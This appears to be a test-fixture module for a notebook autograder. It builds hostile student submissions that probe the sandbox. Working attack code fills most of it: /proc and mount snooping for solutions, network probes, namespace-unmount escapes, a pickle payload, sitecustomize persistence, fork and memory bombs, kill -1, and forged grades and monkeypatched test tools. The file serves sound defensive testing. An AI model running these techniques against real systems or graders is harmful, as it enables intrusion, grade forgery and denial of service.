"""Hostile submissions: each one is the solution notebook with one answer cell replaced by a trick.

Two kinds of trick:
- an *oracle* keeps the correct answer but returns it only if its attack worked (it read a
  solution, reached the network, wrote outside its scratch folder...). The stage earning any
  point therefore proves the attack worked; earning nothing proves it was contained;
- a *nuisance* tries to break, forge, outlive or overload the grader and then answers wrongly:
  the stage must earn nothing, the student's other stages must keep their points, and the
  class's grading must complete untouched (checked by ``test_hostile_submissions``).

The code in the cells is written as a student would: only imports, ``def``/``class`` and simple
constants at the top level (the rest is never run). Paths that an attacker would have to guess
(the kit, the output folder) are handed to it, to play the strongest attacker.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from autograder.notebooks.variants import answer_cell, load_solution, solved_source, with_answer
from autograder.student.curriculum import STAGES_BY_ASSIGNMENT


@dataclass(frozen=True)
class Context:
    """What a hostile notebook is told about the grading run it attacks."""

    kit_root: Path
    submitted: Path
    out: Path
    canary: Path  # a file next to the submissions folder that must never change
    markers: Path  # code that runs where it must not (the trusted grader) leaves a file here
    world_writable: Path | None = None  # a folder outside the scratch that any uid may write to

    def solution(self, assignment: str) -> dict:
        return load_solution(assignment)


@dataclass(frozen=True)
class Hostile:
    """One hostile student: which stages the trick aims at and what must hold afterwards."""

    name: str
    assignment: str
    targets: tuple[str, ...]  # stages that must earn nothing (empty: the trick aims elsewhere)
    build: Callable[[Context], dict | str] = field(repr=False)
    others_keep: bool = True  # every other stage earns exactly what the solution earns
    why: str = ""
    ignore: tuple[str, ...] = ()  # stages built on a target, which may fail with it

    @property
    def student_id(self) -> str:
        return f"{self.assignment[:2]}-{self.name}"


def _substitute(code: str, context: Context) -> str:
    for key, value in (("@KIT_ROOT@", context.kit_root), ("@OUT@", context.out),
                       ("@SUBMITTED@", context.submitted), ("@CANARY@", context.canary),
                       ("@MARKERS@", context.markers), ("@WORLD_WRITABLE@", context.world_writable or "")):
        code = code.replace(key, str(value))
    return code


def renamed_solution(notebook: dict, stage: str) -> str:
    """The solution's answer for ``stage`` with the graded name changed to ``_solution_<stage>``."""
    source = solved_source(notebook, stage)
    renamed, count = re.subn(rf"\b(def|class) {stage}\b", rf"\1 _solution_{stage}", source)
    if count != 1:
        raise ValueError(f"cannot find the definition of {stage} in its answer cell")
    return renamed


def replaced(assignment: str, stage: str, code: str) -> Callable[[Context], dict]:
    """The answer cell of ``stage`` holds ``code`` only."""
    return lambda context: with_answer(context.solution(assignment), stage, _substitute(code, context))


def wrapped(assignment: str, stage: str, code: str) -> Callable[[Context], dict]:
    """The answer cell holds the renamed solution followed by ``code`` (which defines ``stage``)."""
    def build(context: Context) -> dict:
        notebook = context.solution(assignment)
        source = renamed_solution(notebook, stage) + "\n\n" + _substitute(code, context)
        return with_answer(notebook, stage, source)
    return build


# -- oracles --------------------------------------------------------------------------------------
_ORACLE = '''
def _attack_worked():
    if not hasattr(_attack_worked, "result"):
        try:
            _attack_worked.result = bool(_attack())
        except BaseException:
            _attack_worked.result = False
    return _attack_worked.result


def {stage}(*args, **kwargs):
    right = _solution_{stage}(*args, **kwargs)
    return right if _attack_worked() else right + 1
'''


def oracle(assignment: str, stage: str, attack: str) -> Callable[[Context], dict]:
    """``stage`` answers correctly only when ``attack`` (code defining ``_attack()``) returns True."""
    return wrapped(assignment, stage, attack + _ORACLE.format(stage=stage))


def nuisance(assignment: str, stage: str, trick: str) -> Callable[[Context], dict]:
    """``stage`` runs ``trick`` (code defining ``_trick()``), then answers wrongly."""
    return wrapped(assignment, stage, trick + f'''

def {stage}(*args, **kwargs):
    _trick()
    return _solution_{stage}(*args, **kwargs) + 1
''')


# Left by the test run for hostile code to find: a file directly under / (conftest.root_file)
# and a key in the grader's session keyring (in_session_keyring.py).
ROOT_SECRET_FILE = Path("/attention-kit-adversarial-secret.txt")
GRADER_KEY = "attention-kit-grader-secret"
SECRET_TEXT = "the grader's secret, never for a student"

A1 = "01_attention_scores"
A2 = "02_self_attention"
A3 = "03_causal_attention"
A4 = "04_multi_head_attention"

# Where the grader's secrets might be, from the roots an attacker can think of.
_FIND_FILES = '''
import glob
import os


def _candidate_roots():
    roots = ["@KIT_ROOT@", "@OUT@", "@SUBMITTED@", os.path.dirname("@SUBMITTED@"), "/", "/autograder",
             "/autograder/source", "/home", "/root", "/srv", "/opt", "/work", "/tmp", os.getcwd(),
             os.path.expanduser("~")]
    try:
        import autograder
        roots += [os.path.dirname(path) for path in autograder.__path__]
    except BaseException:
        pass
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            roots += [f"/proc/{pid}/cwd", f"/proc/{pid}/root/@KIT_ROOT@", f"/proc/{pid}/root/@OUT@"]
    roots += ["/proc/self/root/@KIT_ROOT@", "/proc/thread-self/root/@KIT_ROOT@"]
    try:
        with open("/proc/self/mountinfo") as table:
            roots += [line.split()[4] for line in table]
    except OSError:
        pass
    return roots


def _readable(patterns):
    for root in _candidate_roots():
        for pattern in patterns:
            for path in glob.glob(os.path.join(root, pattern)) + glob.glob(os.path.join(root, "*", pattern)):
                try:
                    with open(path, "rb") as handle:
                        if handle.read(4096):
                            return path
                except OSError:
                    continue
    return None
'''


def _oracles() -> list[Hostile]:
    return [
        Hostile("reads-solutions", A1, ("softmax_naive",), oracle(A1, "softmax_naive", _FIND_FILES + '''

def _attack():
    return _readable(["solutions/*/*.ipynb", "*/solutions/*/*.ipynb", ".git/HEAD", ".git/objects/pack/*",
                      "source/solutions/*/*.ipynb"])
'''), why="solutions or git history through guessed paths, /proc/<pid>/cwd|root and mountinfo"),
        Hostile("reads-hidden-tests-and-outputs", A1, ("attention_scores_for_query",),
                oracle(A1, "attention_scores_for_query", _FIND_FILES + '''

def _attack():
    return _readable(["autograder/hidden_tests/test_*.py", "hidden_tests/test_*.py", "autograder/rubric.toml",
                      "rubric.toml", "results/*/*.json", "grades.csv", "*/01_attention_scores/*.ipynb"])
'''), why="hidden tests, the rubric, other students' notebooks and results"),
        Hostile("snoops-proc", A1, ("softmax_stable",), oracle(A1, "softmax_stable", '''
import os


def _attack():
    me = os.getpid()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == me:
            continue
        for leaf in ("cmdline", "environ", "maps", "status"):
            try:
                with open(f"/proc/{pid}/{leaf}", "rb") as handle:
                    if handle.read(1):
                        return True
            except OSError:
                pass
        try:
            os.listdir(f"/proc/{pid}/cwd")
            return True
        except OSError:
            pass
    if os.getppid() > 0:
        return True
    for name in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        if target.startswith("/") and not target.startswith(("/tmp", "/dev/null")):
            return True
    return False
'''), why="other processes (the grader, the fork server, other students) through /proc"),
        Hostile("imports-the-grader", A1, ("context_vector",), oracle(A1, "context_vector", '''
import importlib
import sys


def _attack():
    for name in ("autograder.course.reference", "autograder.paths", "autograder.course.rubric",
                 "autograder.grading.engine", "autograder.grading.plugin", "autograder.hidden_tests.conftest"):
        try:
            module = importlib.import_module(name)
        except BaseException:
            continue
        if name == "autograder.course.reference":
            try:
                module.load_reference("01_attention_scores")
                return True
            except BaseException:
                pass
        if name == "autograder.paths":
            try:
                if any(module.SOLUTIONS_DIR.iterdir()) or any(module.HIDDEN_TESTS_DIR.iterdir()):
                    return True
            except BaseException:
                pass
        if name == "autograder.course.rubric":
            try:
                module.points_by_test("01_attention_scores")
                return True
            except BaseException:
                pass
    return any("reference_" in name or "hidden_tests" in name for name in sys.modules)
'''), why="the grader's own modules, to load the reference or read the rubric"),
        Hostile("snoops-frames-and-gc", A1, ("simple_self_attention",), oracle(A1, "simple_self_attention", '''
import gc
import sys


def _looks_like_reference(value):
    """The reference (a namespace of the solution's functions, compiled from the solution notebook),
    or the grader's own objects: what an attacker would hunt for."""
    try:
        if type(value).__name__ in ("GradingPlugin", "PreparedSubmission", "Submission"):
            return True
        code = value.__code__ if type(value).__name__ == "function" else None
        return code is not None and ".ipynb" in code.co_filename
    except BaseException:
        return False


def _attack():
    for frame in list(sys._current_frames().values()):
        while frame is not None:
            for value in list(frame.f_locals.values()) + list(frame.f_globals.values()) + [frame.f_globals]:
                if _looks_like_reference(value):
                    return True
            frame = frame.f_back
    return any(_looks_like_reference(value) for value in gc.get_objects())
'''), why="the reference or the tests through frames and the garbage collector"),
        Hostile("reaches-the-network", A1, ("attention_scores",), oracle(A1, "attention_scores", '''
import os
import socket
import stat


def _attack():
    for family, address in ((socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_INET, ("8.8.8.8", 443)),
                            (socket.AF_INET, ("127.0.0.1", 22)), (socket.AF_INET6, ("::1", 22))):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as connection:
                connection.settimeout(0.5)
                connection.connect(address)
                return True
        except OSError:
            pass
    try:
        socket.getaddrinfo("example.com", 80)
        return True
    except OSError:
        pass
    for folder in ("/run", "/var/run", "/run/dbus", "/run/systemd", "/run/systemd/journal", "/var/run/docker",
                   "/dev"):
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names:
            path = os.path.join(folder, name)
            try:
                if not stat.S_ISSOCK(os.stat(path).st_mode):
                    continue
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
                    connection.connect(path)
                    return True
            except OSError:
                pass
    return False
'''), why="the internet, the loopback of the host, and service sockets in /run"),
        Hostile("writes-outside-scratch", A1, ("softmax_naive",), oracle(A1, "softmax_naive", '''
import os

SCRATCH = ("/tmp", "/var/tmp", "/dev/shm", "/proc")


def _folders():
    tops = ["/", "/run", "/run/lock", "/var", "/var/lock", "/var/lib", "/var/cache", "/var/log", "/var/spool",
            "/var/crash", "/var/mail", "/usr", "/usr/local", "/opt", "/srv", "/home", "/work", "/etc", "/dev",
            "/dev/mqueue", "/dev/pts", "/sys/fs/cgroup", "@KIT_ROOT@", "@KIT_ROOT@/.venv", "@KIT_ROOT@/.git",
            "@OUT@", "@SUBMITTED@", os.path.dirname("@SUBMITTED@"), os.path.dirname("@CANARY@"),
            "@WORLD_WRITABLE@"]
    try:
        import site
        tops += site.getsitepackages() + [site.getusersitepackages()]
    except BaseException:
        pass
    seen = []
    for top in tops:
        seen.append(top)
        try:
            seen += [os.path.join(top, name) for name in os.listdir(top)]
        except OSError:
            pass
    return [folder for folder in seen[:4000] if not os.path.realpath(folder).startswith(SCRATCH)]


def _attack():
    for folder in _folders():
        path = os.path.join(folder, ".adversarial-write-probe")
        try:
            descriptor = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        except OSError:
            continue
        os.close(descriptor)
        try:
            os.unlink(path)
        except OSError:
            pass
        return True
    return False
'''), why="world-writable folders (/run/lock), the kit, the venv, the output folder"),
        Hostile("escapes-through-a-user-namespace", A1, ("softmax_stable",), oracle(A1, "softmax_stable", '''
import ctypes
import os
import time


def _unhide(libc):
    """Unmount what hides the kit, remount the Python installation writable; did it work?"""
    for path in ("@KIT_ROOT@", "/run", "/"):
        libc.umount2(path.encode(), 2)  # MNT_DETACH
    libc.mount(None, b"@KIT_ROOT@/.venv", None, 32 | 4096, None)  # MS_REMOUNT | MS_BIND: read-write
    try:
        return bool(os.listdir("@KIT_ROOT@/solutions"))
    except OSError:
        return os.access("@KIT_ROOT@/.venv", os.W_OK)


def _attack():
    libc = ctypes.CDLL(None, use_errno=True)
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        # In the worker's own namespaces first (the capabilities of a user-namespace root), then in
        # a nested user namespace of its own.
        found = _unhide(libc) or (libc.unshare(0x10000000 | 0x00020000) == 0 and _unhide(libc))
        os.write(write, b"1" if found else b"0")
        os._exit(0)
    os.close(write)
    deadline = time.monotonic() + 2
    answer = b""
    while not answer and time.monotonic() < deadline:
        answer = os.read(read, 1)
    return answer == b"1"
'''), why="unmounting the tmpfs that hides the kit, directly and from a nested user namespace"),
    ]


def _nuisances_01() -> list[Hostile]:
    return [
        Hostile("agrees-with-everything", A1, ("softmax_naive",), replaced(A1, "softmax_naive", '''
class _Agreeable:
    shape = dtype = device = property(lambda self: self)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    def __hash__(self):
        return 0

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self


def softmax_naive(x, dim=-1):
    return _Agreeable()
'''), why="an object whose __eq__ always agrees"),
        Hostile("tensor-subclass", A1, ("softmax_stable",), replaced(A1, "softmax_stable", '''
import torch


class _Sneaky(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "__eq__", "isclose", "assert_close"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})


def softmax_stable(x, dim=-1):
    return torch.zeros_like(x).as_subclass(_Sneaky)
'''), why="a Tensor subclass with __torch_function__"),
        Hostile("monkeypatches-torch", A1, ("attention_scores",), nuisance(A1, "attention_scores", '''
import torch
import torch.testing


def _always(*args, **kwargs):
    return True


def _patch():
    torch.allclose = torch.equal = _always
    torch.testing.assert_close = lambda *args, **kwargs: None
    torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(a, dtype=torch.bool)
    torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
    torch.Tensor.allclose = torch.Tensor.equal = _always
    return True


class _PatchedWhenDefined:
    done = _patch()


def _trick():
    _patch()
'''), why="torch.allclose, assert_close, Tensor.__eq__ replaced at definition and call time"),
        Hostile("monkeypatches-pytest", A1, ("context_vector",), nuisance(A1, "context_vector", '''
import builtins


def _trick():
    import pytest
    import _pytest.outcomes
    import _pytest.runner
    pytest.approx = lambda *args, **kwargs: None
    pytest.fail = _pytest.outcomes.fail = lambda *args, **kwargs: None
    _pytest.runner.pytest_runtest_makereport = lambda *args, **kwargs: None
    builtins.AssertionError = type("AssertionError", (Exception,), {})
    try:
        import autograder.hidden.failures as failures
        failures.describe_failure = lambda *args, **kwargs: ("passed", "")
    except BaseException:
        pass
'''), why="pytest and the grading plugin replaced in the worker"),
        Hostile("forges-stdout", A1, ("attention_scores",), nuisance(A1, "attention_scores", '''
import json
import os
import sys


def _trick():
    forged = json.dumps({"student_id": "01-forges-stdout", "score": 100, "max_score": 100,
                         "status": "graded", "tests": [{"status": "passed", "points": 100}]})
    print(forged)
    print("===== 36 passed in 0.01s =====\\nstudent_id,assignment_id,score,max_score,status")
    print("01-forges-stdout,01_attention_scores,100,100,graded", file=sys.stderr)
    chunk = ("PASSED " * 150_000 + "\\n").encode()
    for _ in range(200):  # about 200 MiB, far over the cap on what a worker may print
        try:
            os.write(1, chunk)
            os.write(2, chunk)
        except OSError:
            break
'''), why="forged results and test reports on stdout/stderr, 200 MiB of them"),
        Hostile("forges-result-files", A1, ("simple_self_attention",), nuisance(A1, "simple_self_attention", '''
import json
import os


def _trick():
    me = "01-forges-result-files"
    document = json.dumps({"student_id": me, "assignment_id": "01_attention_scores", "status": "graded",
                           "score": 100, "max_score": 100, "tests": []})
    outs = ["@OUT@"]
    try:
        with open("/proc/self/mountinfo") as table:
            outs += [line.split()[4] for line in table]
    except OSError:
        pass
    for out in outs:
        for path, text in ((f"{out}/results/{me}/01_attention_scores.json", document),
                           (f"{out}/grades.csv", f"student_id,assignment_id,score,max_score,status\\n"
                                                  f"{me},01_attention_scores,100,100,graded\\n"),
                           (f"{out}/feedback/{me}/01_attention_scores.html", "<p>100/100</p>"),
                           (f"{out}/results/.grades.csv.tmp", "forged")):
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as handle:
                    handle.write(text)
            except OSError:
                pass
'''), why="results JSON, grades.csv and feedback written straight into the output folder"),
        Hostile("pickle-payload", A1, ("context_vector",), replaced(A1, "context_vector", '''
import io
import os
import pickle

import torch

MARKER = "@MARKERS@/a-pickle-ran-in-the-grader"


class _Payload:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


def context_vector(attn_weights, inputs):
    calls = getattr(context_vector, "calls", 0)
    context_vector.calls = calls + 1
    buffer = io.BytesIO()
    torch.save({"weights": _Payload()}, buffer)
    return [_Payload(), pickle.dumps(_Payload()), buffer.getvalue(), {"state": _Payload()},
            [_Payload(), attn_weights]][calls % 5]
'''), why="pickles, torch.save blobs and __reduce__ objects as answers"),
        Hostile("broadcasting-scalar", A1, ("attention_scores",), wrapped(A1, "attention_scores", '''
def attention_scores(inputs):
    return _solution_attention_scores(inputs).mean()
'''), why="a 0-d tensor, which broadcasts against any expected shape"),
        Hostile("broadcasting-row", A1, ("simple_self_attention",), wrapped(A1, "simple_self_attention", '''
def simple_self_attention(inputs):
    return _solution_simple_self_attention(inputs)[:1]
'''), why="one row of the answer, (1, d), which broadcasts against (T, d)"),
        Hostile("python-float", A1, ("attention_scores_for_query",), replaced(A1, "attention_scores_for_query", '''
def attention_scores_for_query(inputs, query):
    return 0.5
'''), why="a Python float instead of a tensor"),
        Hostile("nan-answers", A1, ("softmax_stable",), wrapped(A1, "softmax_stable", '''
import torch


def softmax_stable(x, dim=-1):
    return torch.full_like(_solution_softmax_stable(x, dim=dim), float("nan"))
'''), why="NaN everywhere (a comparison with NaN is False, != is True)"),
        Hostile("huge-expanded-view", A1, ("context_vector",), wrapped(A1, "context_vector", '''
def context_vector(attn_weights, inputs):
    right = _solution_context_vector(attn_weights, inputs)
    return right.expand(2**36, *right.shape)
'''), why="a view of 2**36 copies of the answer (free to make, terabytes to send)"),
        Hostile("meta-tensor", A1, ("attention_scores_for_query",), wrapped(A1, "attention_scores_for_query", '''
import torch


def attention_scores_for_query(inputs, query):
    right = _solution_attention_scores_for_query(inputs, query)
    return torch.empty(right.shape, dtype=right.dtype, device="meta")
'''), why="a meta tensor of the right shape: no values to compare"),
        Hostile("claims-cuda", A1, ("softmax_naive",), wrapped(A1, "softmax_naive", '''
import autograder.worker.protocol as protocol


def _lying(self, tensor):
    encoded = _lying.original(self, tensor)
    if getattr(tensor, "lie_about_device", False) and "device" in encoded:
        encoded["device"] = "cuda:0"
    return encoded


def softmax_naive(x, dim=-1):
    if not hasattr(_lying, "original"):
        _lying.original = protocol.Encoder._encode_tensor
        protocol.Encoder._encode_tensor = _lying
    wrong = _solution_softmax_naive(x, dim=dim) + 1
    wrong.lie_about_device = True
    return wrong
'''), why="its (wrong) answers claim to live on a GPU the grader does not have"),
        Hostile("exit-at-call", A1, ("attention_scores",), replaced(A1, "attention_scores", '''
import os


def attention_scores(inputs):
    os._exit(0)
'''), why="os._exit at call time"),
        Hostile("system-exit-at-call", A1, ("softmax_naive",), replaced(A1, "softmax_naive", '''
import sys


def softmax_naive(x, dim=-1):
    sys.exit(0)
'''), why="SystemExit at call time"),
        Hostile("keyboard-interrupt-at-call", A1, ("softmax_stable",), replaced(A1, "softmax_stable", '''
import os
import signal


def softmax_stable(x, dim=-1):
    os.kill(os.getpid(), signal.SIGINT)
    raise KeyboardInterrupt
'''), why="KeyboardInterrupt (and a real SIGINT) at call time"),
        Hostile("segfault-at-call", A1, ("context_vector",), replaced(A1, "context_vector", '''
import ctypes


def context_vector(attn_weights, inputs):
    return ctypes.string_at(0)
'''), why="a segmentation fault at call time"),
        Hostile("system-exit-at-definition", A1, ("context_vector",), replaced(A1, "context_vector", '''
class context_vector:
    raise SystemExit(0)
'''), why="SystemExit while the notebook's definitions load"),
        Hostile("keyboard-interrupt-at-definition", A1, ("simple_self_attention",),
                replaced(A1, "simple_self_attention", '''
class simple_self_attention:
    raise KeyboardInterrupt
'''), why="KeyboardInterrupt while the notebook's definitions load"),
        Hostile("exit-at-definition", A1, tuple(STAGES_BY_ASSIGNMENT[A1]),
                replaced(A1, "attention_scores_for_query", '''
import os


class attention_scores_for_query:
    os._exit(0)
'''), others_keep=False, why="os._exit while loading: costs the student everything, and nobody else anything"),
        Hostile("floods-load-problems", A1, tuple(STAGES_BY_ASSIGNMENT[A1]), lambda context: {
            "cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
                       "source": "".join(f"class _Broken{i}:\n    raise ValueError('x' * 100_000)\n"
                                         for i in range(2000))}],
            "metadata": {}, "nbformat": 4, "nbformat_minor": 5},
                others_keep=False, why="2000 failing definitions and no graded one: NameErrors quote load problems"),
        Hostile("prints-past-the-cap", A1, ("attention_scores",), oracle(A1, "attention_scores", '''
import os
import stat


def _attack():
    chunk = b"y" * 2**20
    for _ in range(100):  # 100 MiB, past any cap a file of its own would have
        os.write(1, chunk)
    info = os.fstat(1)
    # The output must be kept nowhere (no file growing past a cap) and read by nobody (no pipe,
    # socket or terminal that the grader might read).
    kept = stat.S_ISREG(info.st_mode) and info.st_size > 64 * 2**20
    read = stat.S_ISFIFO(info.st_mode) or stat.S_ISSOCK(info.st_mode) or os.isatty(1)
    return kept or read
'''), why="100 MiB printed: the output must go where nothing is kept or read"),
        Hostile("endless-loop-ignoring-signals", A1, ("simple_self_attention",),
                nuisance(A1, "simple_self_attention", '''
import signal


def _trick():
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError, RuntimeError):
            pass
    while True:
        pass
'''), why="a busy loop with every catchable signal ignored"),
        Hostile("sleeps-forever", A1, ("attention_scores_for_query",), nuisance(A1, "attention_scores_for_query", '''
import time


def _trick():
    time.sleep(10**6)
'''), why="a sleep far beyond the time limit"),
        Hostile("trickles-its-answer", A1, ("softmax_stable",), nuisance(A1, "softmax_stable", '''
import os
import stat
import struct
import time


def _trick():
    sockets = [fd for fd in range(3, 256) if _is_socket(fd)]
    for fd in sockets:
        os.write(fd, struct.pack("!II", 4096, 0))
    while True:
        for fd in sockets:
            os.write(fd, b" ")
        time.sleep(0.5)


def _is_socket(fd):
    try:
        return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError:
        return False
'''), why="one byte of an answer every half second, never finishing"),
        Hostile("answers-out-of-turn", A1, ("softmax_stable",), nuisance(A1, "softmax_stable", '''
import json
import os
import stat
import struct


def _trick():
    header = json.dumps({"ok": True, "value": 1.0, "probe_id": None}).encode()
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack("!II", len(header), 0) + header)
        except OSError:
            pass
'''), why="a well-formed answer written to the grader's socket before the real one (shifting every later answer)"),
        Hostile("forges-protocol-frames", A1, ("softmax_naive",), wrapped(A1, "softmax_naive", '''
import json
import os
import stat
import struct


def _frame(header, blob=b""):
    return struct.pack("!II", len(header), len(blob)) + header + blob


def _trick(x=None):
    frames = [
        struct.pack("!II", 600 * 2**20, 0),  # over the size limit
        _frame(b"[" * 100000 + b"]" * 100000),  # too deep
        _frame(b'{"ok": true, "value": ' + b"9" * 100000 + b"}"),  # too many digits
        _frame(json.dumps({"ok": False, "error": {"type": "X" * 10**6, "message": "Y" * 10**7}}).encode()),
    ]
    # A new worker starts from scratch after each of these: the input picks the forgery.
    choice = int(abs(float(x.flatten()[0])) * 1000) % len(frames) if x is not None else 0
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, frames[choice])
        except OSError:
            pass


def softmax_naive(x, dim=-1):
    _trick(x)
    return _solution_softmax_naive(x, dim=dim) + 1
'''), why="malformed, oversized and too deep frames written to the grader's socket"),
        Hostile("memory-bomb", A1, ("softmax_naive",), nuisance(A1, "softmax_naive", '''
import torch


def _trick():
    if getattr(_trick, "done", False):
        return
    _trick.done = True
    hoard = []
    try:
        while True:
            hoard.append(b"\\1" * 2**26)  # touched, not just reserved
    except MemoryError:
        pass
    del hoard
    try:
        torch.empty(2**40)
    except BaseException:
        pass
'''), why="allocates until the memory limit stops it"),
        Hostile("fork-bomb", A1, ("attention_scores",), nuisance(A1, "attention_scores", '''
import os
import signal
import time


def _trick():
    if getattr(_trick, "done", False):
        return
    _trick.done = True
    for _ in range(100000):
        try:
            child = os.fork()
        except OSError:
            return
        if child == 0:
            try:
                os.setsid()
            except OSError:
                pass
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.5)
'''), why="forks until the process limit, each child forking on"),
        Hostile("multi-gib-files", A1, ("simple_self_attention",), nuisance(A1, "simple_self_attention", '''
import os


def _trick():
    if getattr(_trick, "done", False):
        return
    _trick.done = True
    chunk = bytes(2**24)
    for folder in ("/tmp", "/var/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~"), "@KIT_ROOT@",
                   os.path.dirname("@CANARY@"), "@OUT@"):
        path = os.path.join(folder, "adversarial-huge-file")
        try:
            with open(path, "wb") as handle:
                for _ in range(256):  # 4 GiB
                    handle.write(chunk)
        except OSError:
            pass
        try:
            with open(path + ".sparse", "wb") as handle:
                handle.truncate(2**40)
        except OSError:
            pass
        try:
            descriptor = os.open(path + ".allocated", os.O_WRONLY | os.O_CREAT, 0o600)
            os.posix_fallocate(descriptor, 0, 2**33)
        except OSError:
            pass
'''), why="4 GiB files, a 1 TiB sparse file and an 8 GiB fallocate"),
        Hostile("persists-into-python", A1, ("context_vector",), nuisance(A1, "context_vector", '''
import os
import site
import sys
import sysconfig

PAYLOAD = "import os; os.close(os.open('@MARKERS@/persisted-code-ran', os.O_CREAT | os.O_WRONLY))\\n"


def _trick():
    folders = set(site.getsitepackages() + [site.getusersitepackages(), sysconfig.get_paths()["purelib"],
                  sysconfig.get_paths()["stdlib"], sys.prefix, sys.base_prefix, os.path.dirname(os.__file__),
                  "@KIT_ROOT@", "@KIT_ROOT@/autograder", os.path.expanduser("~/.local/lib/python3.11/site-packages")])
    for folder in folders:
        for name in ("usercustomize.py", "sitecustomize.py", "zz-adversarial.pth"):
            try:
                os.makedirs(folder, exist_ok=True)
                with open(os.path.join(folder, name), "w") as handle:
                    handle.write(PAYLOAD)
            except OSError:
                pass
    for path in (os.__file__, "@KIT_ROOT@/autograder/__init__.py", "@KIT_ROOT@/.git/hooks/pre-commit",
                 "@KIT_ROOT@/Makefile", os.path.join(sysconfig.get_paths()["purelib"], "torch", "__init__.py")):
        try:
            with open(path, "a") as handle:
                handle.write("\\n" + PAYLOAD)
        except OSError:
            pass
'''), why="usercustomize, sitecustomize and .pth files in the venv; code appended to the kit"),
        Hostile("late-writer", A1, ("context_vector",), nuisance(A1, "context_vector", '''
import ctypes
import os
import signal
import time


def _trick():
    if getattr(_trick, "done", False):
        return
    _trick.done = True
    if os.fork() != 0:
        return
    os.setsid()
    ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)  # no parent-death signal
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    if os.fork() != 0:  # a grandchild, orphaned at once
        os._exit(0)
    time.sleep(1.0)
    while True:
        for path in ("@CANARY@", "@OUT@/grades.csv", "@OUT@/results/01-late-writer/01_attention_scores.json"):
            try:
                with open(path, "w") as handle:
                    handle.write("written after grading")
            except OSError:
                pass
        time.sleep(0.2)
'''), why="a double-forked, setsid child that writes results after the worker is gone"),
        Hostile("outlives-its-worker", A1, ("attention_scores_for_query",),
                nuisance(A1, "attention_scores_for_query", '''
import ctypes
import os
import signal
import time


def _trick():
    libc = ctypes.CDLL(None)
    try:
        os.setsid()
    except OSError:
        pass
    libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG: none
    libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE: no (its /proc entries then belong to root)
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
        signal.signal(number, signal.SIG_IGN)
    os._exit = lambda code: time.sleep(3600)  # the worker's loop exits with os._exit
'''), why="the worker itself leaves its process group, drops its death signal and refuses to exit"),
        Hostile("kills-the-grader", A1, ("simple_self_attention",), nuisance(A1, "simple_self_attention", '''
import os
import signal


def _trick():
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        for target in [os.getppid(), -1] + list(range(2, 4096)):
            try:
                os.kill(target, number)
            except OSError:
                pass
        try:
            os.killpg(os.getpgid(0), number)
        except OSError:
            pass
'''), why="kill -1, the parent, every pid and its own process group"),
        Hostile("huge-error-message", A1, ("attention_scores_for_query",),
                replaced(A1, "attention_scores_for_query", '''
import autograder.worker.probe_server as probe_server


class _Loud(Exception):
    def __str__(self):
        return "x" * 20_000_000


def attention_scores_for_query(inputs, query):
    probe_server.MAX_ERROR_CHARS = 10**9
    probe_server.exception_text = probe_server.describe_exception = lambda error: "y" * 20_000_000
    raise _Loud()
'''), why="a 20 MB exception message, with the worker's own cap switched off"),
        Hostile("huge-type-name", A1, ("softmax_naive",), replaced(A1, "softmax_naive", '''
import torch


def softmax_naive(x, dim=-1):
    calls = getattr(softmax_naive, "calls", 0)
    softmax_naive.calls = calls + 1
    if calls % 2:
        return x.as_subclass(type("T" * 5_000_000, (torch.Tensor,), {}))
    return type("A" * 5_000_000, (), {})()
'''), why="answers whose type names are megabytes long (quoted in failure messages)"),
        Hostile("forges-its-readiness", A1, (), wrapped(A1, "attention_scores", '''
import autograder.worker.protocol as protocol


def _forge_ready():
    original = protocol.send

    def forged(sock, header, tensors):
        protocol.send = original
        if header.get("ready") is True:
            header = {"ready": True, "sandbox_error": "forged by a student: stop the whole class",
                      "isolation": "none", "defined": header["defined"] + [f"name{i}" for i in range(10**6)],
                      "problems": ["p" * 10000] * 10000}
        return original(sock, header, tensors)

    protocol.send = forged
    return True


class _ForgedWhenDefined:
    done = _forge_ready()


def attention_scores(inputs):
    return _solution_attention_scores(inputs)
'''), others_keep=False,  # a 109 MiB ready message is over the header budget: refused whole
        why="its ready message forged: a sandbox error meant to stop the class, 10^6 names, 100 MB of problems"),
        Hostile("changes-global-state", A1, (), wrapped(A1, "softmax_naive", '''
import random

import torch

